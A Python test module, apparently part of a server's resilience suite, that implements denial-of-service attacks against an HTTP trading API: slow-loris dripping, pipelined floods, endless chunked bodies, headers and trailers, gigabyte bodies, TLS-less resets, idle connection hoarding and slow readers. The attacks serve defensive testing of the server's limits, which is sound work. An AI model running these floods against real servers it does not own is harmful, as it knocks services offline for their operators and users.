"""What one anonymous client does to a server over plain sockets. Each attack runs for about as long as it is given.

None raises when the server closes, resets or no longer reads: that is what it is there for.
"""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections.abc import Iterator
from itertools import repeat
from typing import NamedTuple

from tests.attacks.raw import ATTACKER, Connection, connect, request, tcp

CHUNKED = {"Transfer-Encoding": "chunked", "Content-Type": "application/json"}
PIPELINED_GET = request("GET", "/bbo/BTC-USDT")
PIPELINED_POST = request("POST", "/order", b'{"symbol":"BTC-USDT"}', headers={"Content-Type": "application/json"})
LARGE_ANSWER = "/openapi.json"
PIECE = 65_536
SLOW_BUFFER = 4096  # bytes that a slow reader has room for
TICK_S = 0.05


class Flood(NamedTuple):
    """What became of one connection that sent as fast as the server read."""

    sent: int  # bytes
    received: bytes  # the first of them, up to 64 KiB
    received_bytes: int
    closed: bool  # by the server, before the end


def flood(url: str, head: bytes, pieces: Iterator[bytes], seconds: float, source: str | None = ATTACKER) -> Flood:
    """Send `head` and then piece after piece as fast as they are read, and read whatever comes, for `seconds`."""
    with connect(url, source=source) as connection:
        return _pump(connection.sock, head, pieces, seconds)


def _pump(sock: socket.socket, head: bytes, pieces: Iterator[bytes], seconds: float) -> Flood:
    deadline = time.monotonic() + seconds
    sock.setblocking(False)
    pending, sent, received, received_bytes = memoryview(head), 0, b"", 0
    while (remaining := deadline - time.monotonic()) > 0:
        if not pending:
            pending = memoryview(next(pieces, b""))
        wants = [sock] if pending else []
        readable, writable, _ = select.select([sock], wants, [], min(remaining, 0.5))
        try:
            if readable:
                piece = sock.recv(PIECE)
                if not piece:
                    return Flood(sent, received, received_bytes, True)
                received_bytes += len(piece)
                if len(received) < PIECE:
                    received += piece
            if writable:
                count = sock.send(pending)
                sent += count
                pending = pending[count:]
        except BlockingIOError:
            continue
        except OSError:
            return Flood(sent, received, received_bytes, True)
    return Flood(sent, received, received_bytes, False)


def pipelined(url: str, seconds: float, content: bytes = PIPELINED_GET) -> Flood:
    """One request after the other on one connection, none waiting for an answer; the answers are read."""
    return flood(url, b"", repeat(content * (PIECE // len(content))), seconds)


def pipelined_unread(url: str, seconds: float, content: bytes = PIPELINED_GET) -> None:
    """As `pipelined`, and no answer is ever read."""
    with connect(url, source=ATTACKER, receive_buffer=SLOW_BUFFER) as connection:
        _send_only(connection.sock, repeat(content * (PIECE // len(content))), seconds)


def one_byte_chunks(url: str, seconds: float) -> Flood:
    """A body of as many chunks as it has bytes."""
    return flood(url, request("POST", "/order", headers=CHUNKED), repeat(b"1\r\n \r\n" * (PIECE // 6)), seconds)


def chunk_extension(url: str, seconds: float) -> Flood:
    """A chunk whose extension does not end."""
    return flood(url, request("POST", "/order", headers=CHUNKED) + b"5;a=", repeat(b"x" * PIECE), seconds)


def trailers(url: str, seconds: float) -> Flood:
    """A chunked body whose trailers do not end."""
    return flood(
        url, request("POST", "/order", headers=CHUNKED) + b"2\r\n{}\r\n0\r\n", repeat(b"X-A: b\r\n" * 8000), seconds
    )


def discarded_body(url: str, seconds: float, target: str = "/no-such-path") -> Flood:
    """A body of a gigabyte that nobody wants."""
    return flood(url, request("POST", target, headers={"Content-Length": str(10**9)}), repeat(b"x" * PIECE), seconds)


def endless_chunks(url: str, seconds: float) -> Flood:
    """A chunked body of large chunks that does not end."""
    chunk = b"4000\r\n" + b" " * 0x4000 + b"\r\n"
    return flood(url, request("POST", "/no-such-path", headers=CHUNKED), repeat(chunk * 4), seconds)


def endless_head(url: str, seconds: float) -> Flood:
    """A head of one header that does not end."""
    return flood(url, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ", repeat(b"x" * PIECE), seconds)


def tls_resets(url: str, count: int) -> None:
    """TCP connections that end with RST before a byte of TLS."""
    for _ in range(count):
        Connection(tcp(url, source=ATTACKER)).reset()


def idle(url: str, count: int, source: str = ATTACKER) -> list[Connection]:
    """So many TCP connections on which nothing is said, or fewer where the server or the machine allows no more.

    The caller closes them.
    """
    held = []
    for _ in range(count):
        try:
            held.append(Connection(tcp(url, source=source, timeout_s=1.0)))
        except OSError:
            break
    return held


def drip(url: str, connections: int, head: bytes, seconds: float, every_s: float = 0.2) -> list[float]:
    """Slow-loris: `head`, then a byte at a time on each of so many connections.

    Returns after how many seconds the server closed each, without those that it did not close.
    """
    held = {
        connection.sock: time.monotonic() for connection in (connect(url, source=ATTACKER) for _ in range(connections))
    }
    lived: list[float] = []
    for sock in held:
        sock.sendall(head)
        sock.setblocking(False)
    deadline = time.monotonic() + seconds
    while held and time.monotonic() < deadline:
        time.sleep(every_s)
        for sock, began in list(held.items()):
            if _has_closed(sock):
                lived.append(time.monotonic() - began)
                sock.close()
                del held[sock]
    for sock in held:
        sock.close()
    return lived


def _has_closed(sock: socket.socket) -> bool:
    """Whether it is over; else one more byte is on its way."""
    try:
        while sock.recv(PIECE):
            pass
    except BlockingIOError:
        pass
    except OSError:
        return True
    else:
        return True
    try:
        sock.send(b"a")
    except BlockingIOError:
        return False
    except OSError:
        return True
    return False


def slow_reader(url: str, seconds: float, connections: int = 8, target: str = LARGE_ANSWER) -> None:
    """Ask for a large answer again and again and read next to nothing of them."""
    held = [connect(url, source=ATTACKER, receive_buffer=SLOW_BUFFER) for _ in range(connections)]
    deadline = time.monotonic() + seconds
    content = request("GET", target) * 200
    for connection in held:
        connection.sock.settimeout(TICK_S)
        with contextlib.suppress(OSError):
            connection.send(content)
    while time.monotonic() < deadline:
        for connection in held:
            with contextlib.suppress(OSError):
                connection.sock.recv(1)
        time.sleep(TICK_S)
    for connection in held:
        connection.close()


def _send_only(sock: socket.socket, pieces: Iterator[bytes], seconds: float) -> None:
    deadline = time.monotonic() + seconds
    for piece in pieces:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            return
        sock.settimeout(remaining)
        try:
            sock.sendall(piece)
        except OSError:
            return


def hold(url: str, connections: int, seconds: float, source: str = ATTACKER) -> int:
    """Hold so many idle connections. Returns how many the server kept open until the end."""
    held = idle(url, connections, source)
    time.sleep(seconds)
    kept = 0
    for connection in held:
        connection.sock.setblocking(False)
        try:
            kept += connection.sock.recv(1) != b""
        except BlockingIOError:
            kept += 1
        except OSError:
            pass
        connection.close()
    return kept
